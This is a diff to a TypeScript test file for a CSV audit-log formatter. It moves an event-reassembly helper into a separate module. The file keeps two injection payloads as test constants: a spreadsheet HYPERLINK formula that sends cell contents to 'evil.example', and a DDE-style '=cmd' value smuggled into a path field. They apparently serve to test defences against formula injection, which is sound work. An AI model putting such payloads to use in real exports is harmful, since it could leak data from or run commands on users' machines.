@@ -1,4 +1,5 @@
-import { AuditEvent, Reassembler, csvHeaderRow, formatAuditEvent, parseRecord, type AttributedContainer, type FormatOptions } from '@contid/audit';
+import { csvHeaderRow, formatAuditEvent, type AttributedContainer, type FormatOptions } from '@contid/audit';
+import { eventsOf } from './events-of';
 import { isFormula, readCsvLine, semicolonCells, unguarded } from '../../../test/helpers/csv';
 
 /**
@@ -11,16 +12,6 @@ import { isFormula, readCsvLine, semicolonCells, unguarded } from '../../../test
 process.env.TZ = 'UTC';
 
 const hex = (text: string): string => Buffer.from(text, 'utf8').toString('hex').toUpperCase();
-
-function eventsOf(lines: string[]): AuditEvent[] {
-  const r = new Reassembler();
-  const out: AuditEvent[] = [];
-  for (const l of lines) {
-    const rec = parseRecord(l);
-    if (rec) out.push(...r.push(rec));
-  }
-  return [...out, ...r.flush()];
-}
 
 const FILE = '=HYPERLINK("http://evil.example/?"&A1,"x"),y';
 const PROGRAM = '/tmp/a,b;=cmd|\' /C calc\'!A0;c';
